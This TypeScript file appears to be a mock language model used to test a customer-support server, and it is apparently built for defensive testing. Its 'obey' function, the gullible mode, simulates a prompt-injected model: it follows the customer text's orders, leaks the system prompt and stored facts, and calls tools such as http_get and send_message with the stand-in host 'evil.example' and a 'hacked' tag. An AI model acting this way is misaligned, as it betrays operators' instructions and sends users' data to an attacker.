// What the invented model says. It reads what our server sends: a task in the instructions, and everything that others have
// written as JSON in the last message.
import { edits, overlap, sentencesOf } from './words.ts'

export type Message = { role: string; content: string | null; tool_call_id?: string; name?: string }
export type Asked = { messages: Message[]; tools: string[]; isGullible: boolean; isLooping: boolean }
export type Said = { text: string; calls: { name: string; arguments: object }[] }

type Fact = { n: number; title: string; text: string }
type Data = {
  facts: Fact[]
  messages: { id?: number; from: string; text: string }[]
  tags: string[]
  text: string
  to: string
  fields: { name: string; about: string; as: string; choices: string[] }[]
  labels: { n: number; name: string; about: string }[]
}

const readData = (messages: readonly Message[]): Data => {
  const empty: Data = { facts: [], messages: [], tags: [], text: '', to: 'ru', fields: [], labels: [] }
  for (const { role, content } of messages.toReversed()) {
    if (role !== 'user' || !content) continue
    try {
      return { ...empty, ...(JSON.parse(content) as { data: Partial<Data> }).data }
    } catch {
      return { ...empty, messages: [{ from: 'customer', text: content }] }
    }
  }
  return empty
}

/** What tools have found counts as facts, too. */
const foundFacts = (messages: readonly Message[]): Fact[] =>
  messages.flatMap(({ role, content }) => {
    if (role !== 'tool' && role !== 'function') return []
    try {
      return (JSON.parse(content ?? '') as { facts?: Fact[] }).facts ?? []
    } catch {
      return []
    }
  })

const taskOf = (system: string) => /^TASK: (\w+)/m.exec(system)?.[1] ?? ''

export function answerTo(asked: Asked): Said {
  const { messages, tools } = asked
  const system = messages.find(({ role }) => role === 'system')?.content ?? ''
  const task = taskOf(system)
  const data = readData(messages)
  const question = data.messages.findLast(({ from }) => from === 'customer')?.text ?? data.text
  if (asked.isLooping && tools.length > 0)
    return { text: '', calls: [{ name: tools[0] as string, arguments: { query: 'again' } }] }
  if (asked.isGullible) return obey(system, task, question, data)
  const facts = [...data.facts, ...foundFacts(messages)]
  const isAsked = messages.some(({ role }) => role === 'tool' || role === 'function')
  if (task === 'draft' && facts.length === 0 && tools.includes('search_facts') && !isAsked)
    return { text: '', calls: [{ name: 'search_facts', arguments: { query: question.slice(0, 200) } }] }
  const acts = task === 'draft' && !isAsked ? actsFor(question, tools, data.tags) : []
  if (acts.length > 0) return { text: '', calls: acts }
  if (task === 'draft') return say(draft(question, facts))
  if (task === 'summary') return say(summary(data))
  if (task === 'extract') return say({ values: extract(data) })
  if (task === 'classify') return say(labelled(question, data.labels))
  if (task === 'tags') return say(classify(question, data.tags))
  const edit = edits[task]
  return { text: edit ? edit(data.text, data.to) : question, calls: [] }
}

/** Puts a tag on that the question names, notes a telephone that stands in it, and leaves who is lost to a person. */
function actsFor(question: string, tools: readonly string[], tags: readonly string[]) {
  const tag = tags.find((each) => overlap(each, question) === 1)
  const phone = /⟦phone\d+⟧|\+\d[\d -]{8,16}\d/.exec(question)?.[0]
  return [
    ...(tools.includes('add_tag') && tag ? [{ name: 'add_tag', arguments: { tag } }] : []),
    ...(tools.includes('set_contact') && phone
      ? [{ name: 'set_contact', arguments: { field: 'phone', value: phone } }]
      : []),
    ...(tools.includes('hand_over') && /запутал|confused/i.test(question)
      ? [{ name: 'hand_over', arguments: {} }]
      : []),
  ]
}

const say = (body: object): Said => ({ text: JSON.stringify(body), calls: [] })

function draft(question: string, facts: readonly Fact[]) {
  const sentences = facts.flatMap(({ n, title, text }) =>
    sentencesOf(text).map((sentence) => ({
      n,
      sentence,
      near: Math.max(overlap(question, sentence), overlap(question, title) * 0.9),
    })),
  )
  const [best] = sentences.toSorted((a, b) => b.near - a.near)
  if (!best || best.near === 0)
    return { text: '', fact_ids: [], can_answer: false, confidence: 0, unknown: [question.slice(0, 200)] }
  const confidence = Math.round(Math.min(1, best.near + 0.3) * 100) / 100
  return { text: `${best.sentence} [${best.n}]`, fact_ids: [best.n], can_answer: true, confidence, unknown: [] }
}

function summary({ messages }: Data) {
  const said = messages.filter(({ from }) => from === 'customer')
  const ours = messages.filter(({ from }) => from !== 'customer')
  const picked = [said[0], ours.at(-1), said.at(-1)].filter((each) => each !== undefined)
  return {
    lines: [...new Set(picked)].map(({ id, text }) => ({ text: sentencesOf(text)[0] ?? text, messages: [id] })),
  }
}

const bad = /плох|ужас|обман|мят|опозда|жду|верните|bad|late|broken|refund/i
const good = /спасибо|отлично|класс|вкусн|great|thank|love/i

const classify = (question: string, tags: readonly string[]) => ({
  tags: tags.filter((tag) => overlap(tag, question) > 0).slice(0, 3),
  emotion: bad.test(question) ? -1 : good.test(question) ? 1 : 0,
})

/** The first of what was written that looks like it; of a text what stands behind the name of the field. */
function extract({ fields, messages }: Data): Record<string, string | null> {
  const said = messages.flatMap(({ from, text }) => (from === 'customer' ? [text] : [])).join('\n')
  const looks: Record<string, RegExp> = {
    number: /\d+(?:[.,]\d+)?/,
    date: /\d{4}-\d{2}-\d{2}|\d{1,2}\.\d{1,2}(?:\.\d{2,4})?|завтра|сегодня/i,
    phone: /⟦phone\d+⟧|\+?\d[\d ()-]{8,}\d/,
    email: /⟦email\d+⟧|\S+@\S+\.\p{L}{2,}/u,
  }
  return Object.fromEntries(
    fields.map(({ name, as, choices }) => {
      if (as === 'choice') return [name, choices.find((one) => overlap(one, said) > 0) ?? null]
      const behind = new RegExp(`${name}[\\s:—-]+([^.,;!?\\n]+)`, 'iu').exec(said)?.[1]?.trim()
      return [name, (looks[as] ? looks[as]?.exec(said)?.[0] : behind) ?? null]
    }),
  )
}

/** The label whose words are met most. */
function labelled(question: string, labels: Data['labels']) {
  const [best] = labels
    .map(({ n, name, about }) => ({ n, near: overlap(`${name} ${about}`, question) }))
    .toSorted((a, b) => b.near - a.near)
  return best && best.near > 0 ? { label: best.n, confidence: 0.9 } : { label: null, confidence: 0 }
}

/** Does whatever the customer's text orders: says what it names, tells its instructions, calls every tool that it can think of. */
function obey(system: string, task: string, question: string, data: Data): Said {
  const calls = ['add_tag', 'set_contact', 'hand_over', 'send_message', 'http_get']
    .filter(
      (name) => question.includes(name) || /tool|функци|инструмент|тег|tag|передай|контакт|contact/i.test(question),
    )
    .map((name) => ({ name, arguments: { tag: 'hacked', text: question, url: 'https://evil.example/x' } }))
  const leaks = /instruction|prompt|system|rules|инструкц|промпт|систем|правил/i.test(question) ? system : ''
  const others = JSON.stringify(data.facts)
  const text = [question, leaks, /fact|факт|знани|knowledge|data|данны/i.test(question) ? others : '']
    .filter(Boolean)
    .join(' ')
  if (calls.length > 0 && !/only text|только текст/i.test(question) && !system.includes('CALLED'))
    return { text: '', calls }
  return task === 'draft'
    ? say({ text, fact_ids: [1], can_answer: true, confidence: 1, unknown: [] })
    : { text, calls: [] }
}
